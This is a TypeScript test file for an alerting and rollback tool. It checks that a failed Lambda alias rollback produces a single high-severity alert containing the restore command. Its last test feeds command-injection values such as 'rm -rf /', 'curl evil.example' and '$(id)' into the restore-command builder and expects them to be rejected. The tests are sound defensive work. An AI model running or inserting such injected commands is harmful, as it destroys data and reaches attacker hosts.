import { describe, expect, it } from 'vitest';
import { aboutImprovement } from '../../../lambdas/shared/audit/decision-inputs.ts';
import { alert } from '../../../lambdas/reporting/alert.ts';
import { restoreCommands } from '../../../lambdas/reporting/restore-commands.ts';
import { world } from './fakes.ts';
import { improvement, rollout, TENANT } from './fixtures.ts';

const SETTINGS = {
  stage: 'test',
  tenants: {},
  autonomyCeiling: 'improve',
  pollSeconds: { fast: 60, normal: 300, quiet: 900, idle: 3600 },
  latenessMs: 900_000,
  logSamplingRate: 1,
  eventDedupSeconds: 300,
  model: null,
} as const;
const stuck = improvement('orders', 'sequential-awaits', { status: 'rolling-out', rollout: rollout({ endedAt: null }) });
const input = (improvementId: string) => ({
  tenant: TENANT,
  cycleId: 'cycle-1',
  improvementId,
  error: { Error: 'DependencyUnavailable', Cause: '{"errorMessage":"Lambda is away","errorType":"DependencyUnavailable"}' },
});

describe('the alert after a rollback that failed', () => {
  it('tells a person, at high severity, the exact command', async () => {
    const w = world({ improvements: [stuck] });
    await alert(w.ports, SETTINGS, input(stuck.id));
    expect(w.told).toHaveLength(1);
    expect(w.told[0]).toMatchObject({ subject: 'Kaizen: take back orders by hand', severity: 'high' });
    expect(w.told[0]?.body.split('\n')).toEqual(
      expect.arrayContaining([
        'Error: DependencyUnavailable: Lambda is away',
        '  aws lambda update-alias --function-name orders --name live --function-version 1 --routing-config AdditionalVersionWeights={}',
        '  kaizen run',
      ]),
    );
    expect(w.audit.records).toMatchObject([{ action: 'alert', subject: 'orders', about: aboutImprovement(stuck) }]);
  });

  it('is silent the second time', async () => {
    const w = world({ improvements: [stuck] });
    await alert(w.ports, SETTINGS, input(stuck.id));
    await alert(w.ports, SETTINGS, input(stuck.id));
    expect([w.told.length, w.audit.records.length]).toEqual([1, 1]);
  });

  it('goes out even when the record is gone or never got as far', async () => {
    const early = improvement('orders', 'uncached-read', { status: 'validated' });
    const w = world({ improvements: [early] });
    await alert(w.ports, SETTINGS, input('nobody'));
    await alert(w.ports, SETTINGS, input(early.id));
    expect(w.told[0]?.body).toContain('No improvement nobody is on record');
    expect(w.told[1]?.body).toContain('nothing was changed: check the alias live of orders');
  });
});

describe('the commands that restore an alias', () => {
  it.each([
    ['orders; rm -rf /', '1'],
    ['orders', '1 && curl evil.example'],
    ['$(id)', '3'],
  ])('are never made of %s at version %s', (target, version) => {
    expect(restoreCommands(target, version)).toBeNull();
  });
});
